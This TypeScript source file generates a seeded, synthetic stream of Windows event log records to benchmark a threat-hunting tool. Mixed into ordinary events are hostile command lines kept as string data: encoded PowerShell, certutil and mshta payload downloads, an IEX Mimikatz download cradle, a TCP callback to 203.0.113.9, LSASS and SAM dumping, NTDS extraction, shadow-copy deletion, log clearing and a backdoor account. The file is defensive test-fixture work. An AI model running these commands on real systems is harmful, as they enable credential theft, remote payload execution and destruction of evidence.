/**
 * A realistic, reproducible stream of Windows events for benchmark logs: the mix a domain workstation or server
 * logs (Sysmon 1/3/11/13, Security 4624/4625/4688, PowerShell 4104, System 7045, now and then a 1102), with varied
 * hosts, users, processes, addresses and times, and about one event in a hundred showing attacker tradecraft
 * (encoded PowerShell, LOLBin downloads, credential dumping, shadow-copy deletion, webshell children, log clearing).
 * Pure: a seed in, records out.
 */
import {
  powershell4104,
  security1102,
  security4624,
  security4625,
  security4688,
  sysmon1,
  sysmon11,
  sysmon13,
  sysmon3,
  system7045,
  type EvtxRecord,
} from '../src/evtx/writer/index.js';

/** mulberry32: small, fast, good enough to vary fixtures; the same seed gives the same log. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const HOSTS = ['WS01', 'WS02', 'WS07', 'LAPTOP-7QK2', 'DC01', 'EXCH01', 'FS01', 'SQL02', 'WEB03', 'BUILD01'].map((h) => `${h}.corp.example`);
const USERS = ['alice', 'bob', 'carol', 'dave', 'erin', 'svc_backup', 'svc_sql', 'Administrator'];
/**
 * Ordinary process starts, each with the parent Windows really gives it and the PE metadata Sysmon reports: a benign
 * mix must look benign to the rules (a random parent or a wrong OriginalFileName is itself a detection).
 */
interface Proc {
  image: string;
  cmd: string;
  parent: string;
  original: string;
  description: string;
}
const SYS = 'C:\\Windows\\System32\\';
const BENIGN: readonly Proc[] = [
  { image: `${SYS}svchost.exe`, cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', parent: `${SYS}services.exe`, original: 'svchost.exe', description: 'Host Process for Windows Services' },
  { image: `${SYS}svchost.exe`, cmd: 'C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p', parent: `${SYS}services.exe`, original: 'svchost.exe', description: 'Host Process for Windows Services' },
  { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', cmd: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-GB', parent: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', original: 'chrome.exe', description: 'Google Chrome' },
  { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', cmd: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', parent: 'C:\\Windows\\explorer.exe', original: 'chrome.exe', description: 'Google Chrome' },
  { image: `${SYS}conhost.exe`, cmd: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', parent: `${SYS}cmd.exe`, original: 'CONHOST.EXE', description: 'Console Window Host' },
  { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"', parent: 'C:\\Windows\\explorer.exe', original: 'Outlook.exe', description: 'Microsoft Outlook' },
  { image: `${SYS}taskhostw.exe`, cmd: 'taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly', parent: `${SYS}svchost.exe`, original: 'taskhostw.exe', description: 'Host Process for Windows Tasks' },
  { image: `${SYS}cmd.exe`, cmd: 'C:\\Windows\\system32\\cmd.exe /c "C:\\Program Files\\Backup\\run-nightly.bat"', parent: `${SYS}svchost.exe`, original: 'Cmd.Exe', description: 'Windows Command Processor' },
  { image: 'C:\\Program Files\\Git\\cmd\\git.exe', cmd: 'git.exe fetch --prune origin', parent: 'C:\\Program Files\\Microsoft VS Code\\Code.exe', original: 'git.exe', description: 'Git for Windows' },
  { image: `${SYS}msiexec.exe`, cmd: 'C:\\Windows\\system32\\msiexec.exe /V', parent: `${SYS}services.exe`, original: 'msiexec.exe', description: 'Windows® installer' },
  { image: `${SYS}RuntimeBroker.exe`, cmd: 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding', parent: `${SYS}svchost.exe`, original: 'RuntimeBroker.exe', description: 'Runtime Broker' },
  { image: 'C:\\Program Files\\Microsoft VS Code\\Code.exe', cmd: '"C:\\Program Files\\Microsoft VS Code\\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService', parent: 'C:\\Program Files\\Microsoft VS Code\\Code.exe', original: 'electron.exe', description: 'Visual Studio Code' },
  { image: `${SYS}SearchProtocolHost.exe`, cmd: '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 1', parent: `${SYS}SearchIndexer.exe`, original: 'SearchProtocolHost.exe', description: 'Microsoft Windows Search Protocol Host' },
  { image: `${SYS}backgroundTaskHost.exe`, cmd: '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider', parent: `${SYS}svchost.exe`, original: 'backgroundTaskHost.exe', description: 'Background Task Host' },
];
/** Programs that run, connect, write and set keys in the background (their images). */
const DAEMONS = BENIGN.map((p) => p.image);
/** Tradecraft the hunt rules look for: what hardnut exists to find in the noise. */
const ATTACKS: readonly [string, string, string][] = [
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all', 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'],
  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://198.51.100.23/a.png C:\\Users\\Public\\a.exe', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\l.dmp full', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\ntdsutil.exe', 'ntdsutil.exe "ac i ntds" ifm "create full C:\\Windows\\Temp\\x" q q', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\netsh.exe', 'netsh interface portproxy add v4tov4 listenport=9999 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.0.5.12', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic /node:10.0.5.20 process call create "cmd.exe /c ipconfig > C:\\Windows\\Temp\\i.txt"', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\reg.exe', 'reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\net.exe', 'net user support_388945a0 P@ssw0rd! /add', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\mshta.exe', 'mshta.exe http://203.0.113.9/update.hta', 'C:\\Windows\\explorer.exe'],
  ['C:\\Windows\\System32\\wevtutil.exe', 'wevtutil.exe cl Security', 'C:\\Windows\\System32\\cmd.exe'],
];
const SCRIPTS = [
  'Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item',
  'Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv C:\\Reports\\users.csv',
  'Get-Service | Where-Object Status -eq Running | Select-Object Name',
];
const ATTACK_SCRIPTS = [
  "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds",
  '$c = New-Object System.Net.Sockets.TCPClient("203.0.113.9", 443); $s = $c.GetStream()',
];
const FILES = ['C:\\Users\\{u}\\AppData\\Local\\Temp\\~DF{n}.tmp', 'C:\\Users\\{u}\\Downloads\\report-{n}.pdf', 'C:\\Windows\\Prefetch\\CHROME.EXE-{n}.pf', 'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\{n}.bin'];
const WEBSHELLS = ['C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\error.aspx', 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx'];
const KEYS = ['HKU\\S-1-5-21-1-2-3-1013\\Software\\Microsoft\\Office\\16.0\\Outlook\\Profiles\\{n}', 'HKU\\S-1-5-21-1-2-3-1013\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\{n}', 'HKLM\\System\\CurrentControlSet\\Services\\{n}\\Start'];

/** An attack tuple as a process start, its metadata true to the binary (renamed tools are a rule of their own). */
function attackProc([image, cmd, parent]: readonly [string, string, string]): Proc {
  const name = image.slice(image.lastIndexOf('\\') + 1);
  return { image, cmd, parent, original: name, description: name };
}

export interface MixOptions {
  seed?: number;
  /** First event time (ISO 8601); events follow at random sub-second intervals. */
  start?: string;
}

/** An endless, reproducible stream of realistic events. */
export function* syntheticEvents(options: MixOptions = {}): Generator<EvtxRecord> {
  const rnd = prng(options.seed ?? 1);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(rnd() * a.length)]!;
  const int = (n: number) => Math.floor(rnd() * n);
  const hex = (n: number) => {
    let s = '';
    while (s.length < n) s += (0x10000000 + Math.floor(rnd() * 0xf0000000)).toString(16).slice(1).toUpperCase();
    return s.slice(0, n);
  };
  const guid = () => `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`;
  const ip = () => `10.${int(8)}.${int(256)}.${1 + int(254)}`;
  const fill = (s: string, u: string) => s.replace('{u}', u).replace('{n}', hex(6));
  let ms = Date.parse(options.start ?? '2024-03-01T00:00:00Z');
  for (let i = 0; ; i++) {
    ms += int(900);
    const time = new Date(ms).toISOString().replace('Z', `${int(10000).toString().padStart(4, '0')}Z`);
    const computer = pick(HOSTS);
    const user = pick(USERS);
    const attack = rnd() < 0.01;
    const common = { computer, time, processId: 500 + int(9000), threadId: 500 + int(9000) };
    const roll = rnd();
    if (roll < 0.3) {
      const p = attack ? attackProc(pick(ATTACKS)) : pick(BENIGN);
      yield sysmon1({ ...common, Image: p.image, CommandLine: p.cmd, ParentImage: p.parent, ParentCommandLine: p.parent, OriginalFileName: p.original, Description: p.description, CurrentDirectory: 'C:\\Windows\\system32\\', User: `CORP\\${user}`, ProcessGuid: guid(), ProcessId: 1000 + int(60000), ParentProcessId: 1000 + int(60000), LogonId: BigInt(0x10000 + int(0xffffff)), Hashes: `SHA256=${hex(64)}`, IntegrityLevel: attack ? 'High' : pick(['Medium', 'High', 'System']) });
    } else if (roll < 0.45) {
      yield sysmon3({ ...common, Image: pick(DAEMONS), User: `CORP\\${user}`, SourceIp: ip(), SourcePort: 49152 + int(16000), DestinationIp: attack ? '203.0.113.9' : `${13 + int(200)}.${int(256)}.${int(256)}.${int(256)}`, DestinationPort: attack ? 4444 : pick([443, 443, 80, 53, 445, 389]), Initiated: rnd() < 0.9, ProcessGuid: guid() });
    } else if (roll < 0.55) {
      yield sysmon11({ ...common, Image: pick(DAEMONS), TargetFilename: attack ? pick(WEBSHELLS) : fill(pick(FILES), user), ProcessGuid: guid(), User: `CORP\\${user}` });
    } else if (roll < 0.63) {
      yield sysmon13({ ...common, Image: pick(DAEMONS), TargetObject: attack ? 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater' : fill(pick(KEYS), user), Details: attack ? 'C:\\Users\\Public\\svchost.exe' : `DWORD (0x${hex(8)})`, ProcessGuid: guid() });
    } else if (roll < 0.78) {
      yield security4624({ ...common, TargetUserName: user, TargetDomainName: 'CORP', LogonType: pick([2, 3, 3, 3, 5, 7, 10]), IpAddress: ip(), IpPort: String(49152 + int(16000)), WorkstationName: pick(HOSTS).split('.')[0]!, TargetLogonId: BigInt(0x10000 + int(0xffffff)) });
    } else if (roll < 0.83) {
      yield security4625({ ...common, TargetUserName: attack ? 'administrator' : user, IpAddress: attack ? '198.51.100.23' : ip(), LogonType: 3, SubStatus: pick([0xc000006a, 0xc0000064, 0xc0000072]) });
    } else if (roll < 0.93) {
      const p = attack ? attackProc(pick(ATTACKS)) : pick(BENIGN);
      yield security4688({ ...common, NewProcessName: p.image, CommandLine: p.cmd, ParentProcessName: p.parent, SubjectUserName: user, NewProcessId: BigInt(1000 + int(60000)), ProcessId: BigInt(1000 + int(60000)) });
    } else if (roll < 0.985) {
      yield powershell4104({ ...common, ScriptBlockText: attack ? pick(ATTACK_SCRIPTS) : pick(SCRIPTS), ScriptBlockId: guid().slice(1, -1).toLowerCase(), level: attack ? 3 : 5 });
    } else if (roll < 0.998) {
      yield system7045({ ...common, ServiceName: attack ? 'PSEXESVC' : pick(['Google Update Service (gupdate)', 'Windows Defender Advanced Threat Protection Service']), ImagePath: attack ? '%SystemRoot%\\PSEXESVC.exe' : '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /svc' });
    } else {
      yield security1102({ ...common, SubjectUserName: user });
    }
  }
}
